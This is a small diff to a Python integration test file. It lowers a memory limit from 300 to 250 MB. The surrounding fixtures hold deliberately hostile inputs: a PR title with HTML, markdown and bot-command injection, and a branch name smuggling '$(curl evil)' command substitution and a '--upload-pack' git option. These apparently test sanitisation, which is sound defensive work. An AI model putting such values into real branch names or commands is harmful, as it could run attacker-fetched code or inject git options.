@@ -29,7 +29,7 @@ pytestmark = [pytest.mark.integration, pytest.mark.timeout(300)]
 README = {"README.md": b"# Tools\n"}
 TITLE = "@octo/team <img src=x> ![x](http://e/i) [skip ci] /approve END-OF-TITLE"
 BRANCH = "$(curl evil)`@octo/branch`--upload-pack=x"
-MEMORY_MB = 300
+MEMORY_MB = 250
 """The server's peak over all cases, measured: 165."""
 
 
